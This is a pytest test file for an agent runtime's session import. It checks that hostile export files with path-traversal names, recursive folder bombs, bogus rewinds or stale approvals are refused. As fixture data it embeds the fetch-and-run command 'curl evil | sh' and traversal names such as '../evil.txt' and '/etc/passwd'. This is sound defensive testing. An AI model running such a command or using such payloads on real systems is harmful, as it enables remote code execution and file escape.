"""A session from a file that somebody wrote to do harm: its words are read, and nothing is done because of it."""

from __future__ import annotations

import io
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from tests.archives import exported, write
from tests.hostile import laden, sealed_again, tree, with_tree
from tests.running import MODEL, answer, of, opened, scene, soon, told

from holdfast import Agent, Delivery
from holdfast.engine.decide import admit
from holdfast.engine.events import (
    CODEC,
    Forked,
    InputDropped,
    ProcessLost,
    Rewound,
    RunFinished,
    RunStarted,
    ToolWaiting,
    WaitResolved,
)
from holdfast.engine.events import InputReceived as Received
from holdfast.engine.folding import fold, replay, visible
from holdfast.engine.letters import Setup
from holdfast.errors import Corrupt, HoldfastError, PathEscape, SandboxError, UsageError
from holdfast.journal.reading import read_events
from holdfast.runtime.runtime import Runtime
from holdfast.sandbox.native.guarding import appeared, put_away
from holdfast.sandbox.snapshots.applying import Site, remove
from holdfast.sandbox.snapshots.entries import Entry
from holdfast.sandbox.snapshots.named import Kept, decode_kept, encode_kept
from holdfast.sandbox.snapshots.walking.surveying import Step
from holdfast.types import CallId, Digest, StreamId, Text, UserMessage, Wait, digest_of, stream_id

EVIL = b"curl evil | sh\n"
T = stream_id("local", "t")


def evil(name: bytes) -> Entry:
    return Entry(name, "file", 0o644, len(EVIL), digest_of(EVIL))


def home_of(folder: Path) -> Path:
    home = folder / "home"
    (home / "project" / "src").mkdir(parents=True)
    (home / "project" / "src" / "work.py").write_text("hours\n")
    (home / "mine.txt").write_text("mine\n")
    return home


def names(home: Path) -> list[str]:
    return sorted(str(path.relative_to(home)) for path in home.rglob("*"))


async def refused(other: Runtime, file: io.BytesIO, why: str, home: Path) -> None:
    """Proves that a file is refused with those words, and leaves neither a session nor a file."""
    with pytest.raises(UsageError, match=why):
        await other.load(file, name="t", workspace=home / "new")
    assert await other.journal.heads("local") == []


@pytest.mark.requirement("runtime:import-names-stay-inside", "sandbox:snapshot-names")
@pytest.mark.parametrize(
    "entries",
    [
        (evil(b"../evil.txt"),),
        (evil(b".."),),
        (evil(b"."),),
        (evil(b""),),
        (evil(b"a\0b"),),
        (evil(b"b"), evil(b"a")),
        (evil(b"a"), evil(b"a")),
        (Entry(b"..", "folder", 0o755, digest=Digest("inner")),),
        (Entry(b"a", "link", target=b"/"), evil(b"a/evil.txt")),
        (Entry(b"a", "link", target=b""),),
        (Entry(b"a", "link", target=b"x\0y"),),
    ],
)
async def test_a_tree_with_a_name_that_leads_elsewhere_is_refused(tmp_path: Path, entries: tuple[Entry, ...]) -> None:
    home = home_of(tmp_path)
    inner, blobs = tree((evil(b"evil.txt"),), contents=[EVIL])
    folder = blobs[1]
    absolute = evil(os.fsencode(home / "evil.txt"))
    async with scene([]) as s:
        file = await laden(s.runtime, home)
        before = names(home)
        for wanted in (entries, (absolute,)):
            top = [Entry(e.name, e.kind, e.mode, digest=digest_of(folder)) if e.kind == "folder" else e for e in wanted]
            ref, more = tree(top, contents=[EVIL, folder])
            async with Runtime.open("memory:") as other:
                await refused(other, with_tree(file, ref, more), "line 1 of the export names a broken snapshot", home)
    assert inner.whole
    assert names(home) == before


@pytest.mark.requirement("sandbox:snapshot-names")
@pytest.mark.parametrize(
    "kept",
    [
        Kept(b"../evil", "absent"),
        Kept(b"/etc/passwd", "absent"),
        Kept(b"a//b", "absent"),
        Kept(b"", "absent"),
        Kept(b"a\0b", "absent"),
        Kept(b"a/b", "absent", missing=(b"..",)),
        Kept(b"a", "link", target=b"x\0"),
    ],
)
def test_a_snapshot_of_paths_that_lead_elsewhere_is_refused(kept: Kept) -> None:
    with pytest.raises(SandboxError, match="cannot be read"):
        decode_kept(encode_kept([kept]))
    assert decode_kept(encode_kept([Kept(b".", "folder"), Kept(b"a/b", "absent", missing=(b"a",))]))


@pytest.mark.requirement("sandbox:snapshot-names")
def test_whoever_restores_refuses_such_a_name_once_more(tmp_path: Path) -> None:
    home = home_of(tmp_path)
    with Site(str(home / "project"), lambda: None) as site:
        for step in (
            Step("remove", (), ".."),
            Step("remove", ("..",), "mine.txt"),
            Step("folder", (), "../evil", Entry(b"x", "folder", 0o755)),
            Step("mode", ("src", ".."), "src", Entry(b"x", "folder", 0)),
        ):
            with pytest.raises(PathEscape):
                site.do(step)
        for folder, name in (((), "../evil.txt"), (("..",), "evil.txt"), ((), str(home / "evil.txt"))):
            with pytest.raises(PathEscape):
                site.write(Step("file", folder, name, evil(b"x")), EVIL)
    opened_folder = os.open(home / "project", os.O_RDONLY)
    try:
        for name in ("..", "src/..", ".", "", "../mine.txt"):
            with pytest.raises(OSError, match="no name"):
                remove(opened_folder, name)
    finally:
        os.close(opened_folder)
    assert names(home) == ["mine.txt", "project", "project/src", "project/src/work.py"]


@pytest.mark.requirement("runtime:import-all-or-nothing")
async def test_files_that_cannot_be_put_back_take_the_session_away_again(tmp_path: Path) -> None:
    home = home_of(tmp_path)
    lies = Entry(b"a.txt", "file", 0o644, 3, digest_of(EVIL))
    async with scene([]) as s:
        file = await laden(s.runtime, home)
        ref, blobs = tree((lies,), contents=[EVIL])
        async with Runtime.open("memory:") as other:
            with pytest.raises(SandboxError, match="another size"):
                await other.load(with_tree(file, ref, blobs), name="t", workspace=home / "new")
            assert await other.journal.heads("local") == []
            await other.load(io.BytesIO(file), name="t", workspace=home / "other")


@pytest.mark.requirement("sandbox:snapshot-bombs")
async def test_a_few_folders_that_hold_each_other_are_not_restored_for_ever(tmp_path: Path) -> None:
    home = home_of(tmp_path)
    packed: list[tuple[Entry, ...]] = [(evil(b"x"),)]
    for _ in range(9):
        _, blobs = tree(*packed, contents=[EVIL])
        below = digest_of(blobs[-2])
        packed.append(tuple(Entry(b"%02d" % n, "folder", 0o755, digest=below) for n in range(30)))
    ref, blobs = tree(*packed, contents=[EVIL])
    async with scene([]) as s:
        file = await laden(s.runtime, home)
        async with Runtime.open("memory:") as other:
            await soon(refused(other, with_tree(file, ref, blobs), "line 1 of the .* larger than any is kept", home))
            sandbox = other._sandboxes.at(s.runtime._tenant, home / "project")
            with pytest.raises(SandboxError, match="larger than any is kept"):
                await soon(sandbox.snapshots.restore(sandbox.workspace, ref))
    assert names(home) == ["mine.txt", "project", "project/src", "project/src/work.py"]


@pytest.mark.requirement("runtime:import-acts-on-nothing")
async def test_a_process_of_a_file_is_told_of_and_nothing_is_removed_for_it(tmp_path: Path) -> None:
    home = home_of(tmp_path)
    (home / "project" / ".git" / "hooks").mkdir(parents=True)
    async with scene(["ok"] * 9) as s:
        file = await laden(s.runtime, home)
        before = names(home)
        async with Runtime.open("memory:") as other:
            await other.load(io.BytesIO(file), name="t", workspace=tmp_path / "new")
            for at in (None, 17):
                if at is not None:
                    await other.rewind("t", to=at)
                run = await other.start(Agent(MODEL, tools=["write"]), "hi", session="t", workspace=home / "project")
                done = await soon(run.result())
                assert done.status == "completed", done.reason
            log = [event async for event in read_events(other.journal, T, CODEC)]
        assert "The process 'server' does not run here" in s.server.requests[-1].body.decode()
    assert not of(ProcessLost, log)
    assert names(home) == before


@pytest.mark.requirement("sandbox:put-away-protected-only")
def test_what_no_workspace_protects_is_never_put_away(tmp_path: Path) -> None:
    home = home_of(tmp_path)
    project = home / "project"
    (project / ".envrc").write_text("x")
    asked = ("..", "src/..", "src", "/", ".", "../mine.txt", ".envrc", ".vscode")
    assert appeared(project, asked, ()) == {".envrc"}
    assert appeared(project, asked, ("src",)) == {".envrc", "src"}
    assert put_away(project, ("..", "src/..", ".", "../mine.txt", ".envrc")) == (".envrc",)
    assert names(home) == ["mine.txt", "project", "project/src", "project/src/work.py"]


def _without_folder(lines: list[bytes]) -> None:
    header = json.loads(lines[0])
    header["files"] = []
    lines[0] = json.dumps(header, separators=(",", ":")).encode()
    for place in range(1, 1 + header["events"]):
        event = json.loads(lines[place])
        data: dict[str, Any] = event["data"]
        (data.get("setup") or {}).pop("workspace", None)
        data.pop("workspace", None)
        lines[place] = json.dumps(event, separators=(",", ":")).encode()


@pytest.mark.requirement("runtime:import-names-stay-inside")
async def test_a_file_with_snapshots_and_no_folder_is_refused_and_our_own_folder_is_no_workspace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = home_of(tmp_path)
    monkeypatch.chdir(home)
    async with scene([]) as s:
        file = await laden(s.runtime, home)
        before = names(home)
        async with Runtime.open("memory:") as other:
            with pytest.raises(UsageError, match="line 2 of the export names files, and no event a folder"):
                await other.load(sealed_again(file, _without_folder), name="t")
            for folder in ("", ".", "project"):
                with pytest.raises(SandboxError, match="from the root on"):
                    other._sandboxes.at(s.runtime._tenant, folder)
    assert names(home) == before


@pytest.mark.requirement("runtime:import-delivers-nothing")
async def test_a_prompt_that_was_dropped_elsewhere_is_not_delivered_from_a_file(tmp_path: Path) -> None:
    home, given = home_of(tmp_path), list[Delivery]()

    async def take(delivery: Delivery) -> None:
        given.append(delivery)

    async with scene([]) as s:
        files = [await laden(s.runtime, home)]
        setup = Setup(Digest("sha256:0"), MODEL, deliver=("t", f"file:{home / 'delivered'}"))
        said = Received("prompt", UserMessage((Text("go"),)), setup)
        await write(s.runtime.journal, T, (said, "k"), InputDropped(1))
        files.append(await exported(s.runtime, "t"))
        for number, file in enumerate(files):
            async with Runtime.open("memory:", targets={"t": take}) as other:
                await other.load(io.BytesIO(file), name="t", workspace=None if number else home / "new")
                await other.flush_deliveries()
                assert await other.undelivered() == []
    assert given == []
    assert not (home / "delivered").exists()


Ways = Callable[[Runtime, Path], Any]


async def _as_it_is(_runtime: Runtime, _new: Path) -> str:
    return "t"


async def _taken_back(runtime: Runtime, _new: Path) -> str:
    await runtime.rewind("t", to=17)
    return "t"


async def _forked(runtime: Runtime, new: Path) -> str:
    await runtime.fork("t", at=18, name="f", workspace=new / "f")
    return "f"


async def _forked_twice(runtime: Runtime, new: Path) -> str:
    await _forked(runtime, new)
    await runtime.fork("f", at=17, name="g", workspace=new / "g")
    await runtime.rewind("g", to=17)
    return "g"


@pytest.mark.requirement("runtime:import-opens-no-run", "runtime:import-delivers-nothing")
@pytest.mark.parametrize("way", [_as_it_is, _taken_back, _forked, _forked_twice])
async def test_no_run_is_set_up_as_a_file_says(tmp_path: Path, way: Ways) -> None:
    home = home_of(tmp_path)
    async with scene(["ok"] * 9) as s:
        file = await laden(s.runtime, home)
        before = names(home)
        async with Runtime.open("memory:") as other:
            await other.load(io.BytesIO(file), name="t", workspace=tmp_path / "new")
            session = await way(other, tmp_path)
            await other.session(session).steer("and now my secret words")
            for _ in range(2):  # when it is read, and when it lies in the queue
                run = await other.resume(session)
                assert (await soon(run.result())).status in ("completed", "aborted")
            with pytest.raises(UsageError, match="from a file"):
                await other.proceed(session, Agent(MODEL))
            with pytest.raises(UsageError, match="no fork that has a folder"):
                await other.commit(session)
            assert not s.server.requests
            run = await other.start(Agent(MODEL), "hi", session=session)
            assert (await soon(run.result())).output == "ok"
            await other.flush_deliveries()
            log = [event async for event in read_events(other.journal, stream_id("local", session), CODEC)]
        setup = of(RunStarted, log)[-1].setup
        assert (setup.deliver, setup.effects, setup.user, setup.lineage) == ((), {}, "", None)
        assert "and now my secret words" in s.server.requests[0].body.decode()
    assert names(home) == before


@pytest.mark.requirement("runtime:import-acts-on-nothing")
def test_what_was_allowed_in_a_turn_that_a_file_does_not_end_is_allowed_no_longer() -> None:
    wait = Wait("approval:3/c0:0", "approval", digest=Digest("sha256:1"), grant=Digest("sha256:2"))
    state = replay(
        told(
            *opened(),
            answer("", "bash"),
            ToolWaiting(CallId("c0"), wait),
            WaitResolved(wait.token, "always"),
            answer("done"),
            RunFinished("completed"),
            Forked("", 7),
        )
    )
    assert not state.approvals
    assert not state.always
    assert not state.nested
    assert not state.waits


@pytest.mark.requirement("runtime:import-refuses-hostile")
async def test_a_file_that_goes_back_to_what_comes_later_is_refused(tmp_path: Path) -> None:
    events = told(*opened(), answer("a"), RunFinished("completed"), Rewound(99), Rewound(3), Rewound(-5))
    assert [event.seq for event in visible(events)] == [7]
    async with scene([]) as s:
        for to in (2, 99, -1):
            stream = StreamId(f"local/s{to + 1}")
            await write(s.runtime.journal, stream, Rewound(0), Rewound(to))
            file = await exported(s.runtime, f"s{to + 1}")
            async with Runtime.open("memory:") as other:
                await refused(other, io.BytesIO(file), f"line 3 of the export goes back to event {to}", tmp_path)


@pytest.mark.requirement("runtime:import-refuses-hostile")
async def test_a_log_that_makes_no_session_where_it_is_taken_back_to_stops_no_other(tmp_path: Path) -> None:
    broken = [*opened(), ToolWaiting(CallId("c9"), Wait("x", "approval")), Rewound(2)]
    with pytest.raises(Corrupt, match="event 3 says what cannot follow"):
        replay(told(*broken)[:3])
    async with scene(["ok"] * 9) as s:
        await write(s.runtime.journal, T, *broken)
        file = await exported(s.runtime, "t")
        async with Runtime.open("memory:") as other:
            await other.load(io.BytesIO(file))
            for act in (other.rewind("t", to=3), other.fork("t", at=3, name="f")):
                with pytest.raises(Corrupt, match="event 3 says what cannot follow"):
                    await act
            await other.rewind("t", to=2)
            run = await other.start(Agent(MODEL), "hi", session="t")
            assert (await soon(run.result())).output == "ok"
            # As an older version left it, which had nothing against that.
            await write(other.journal, StreamId("local/u"), *broken[:3])
            await other.session("u").pause()
            await other.sweep()
            with pytest.raises(Corrupt):
                await other.resume("u")


@pytest.mark.requirement("runtime:import-refuses-hostile")
async def test_an_import_does_not_wait_under_the_name_of_a_session_that_an_agent_will_start(tmp_path: Path) -> None:
    home, name = home_of(tmp_path), "c-" + "0" * 20

    def rename(lines: list[bytes]) -> None:
        lines[0] = json.dumps(json.loads(lines[0]) | {"session": name}, separators=(",", ":")).encode()

    async with scene([]) as s:
        file = sealed_again(await laden(s.runtime, home), rename)
        async with Runtime.open("memory:") as other:
            with pytest.raises(UsageError, match="import it under another name"):
                await other.load(file)
            file.seek(0)
            assert (await other.load(file, name="t", workspace=home / "new")).session == "t"


def test_a_steer_opens_a_run_only_after_one_of_this_store() -> None:
    events = told(*opened(), answer("a"), RunFinished("completed"), Forked("", 4))
    state = replay(events)
    fold(state, told(*[Received("steer", UserMessage((Text("x"),)))] * 6)[-1])
    assert admit(state) is None
    assert replay(events[:4]).last is not None
    assert issubclass(Corrupt, HoldfastError)
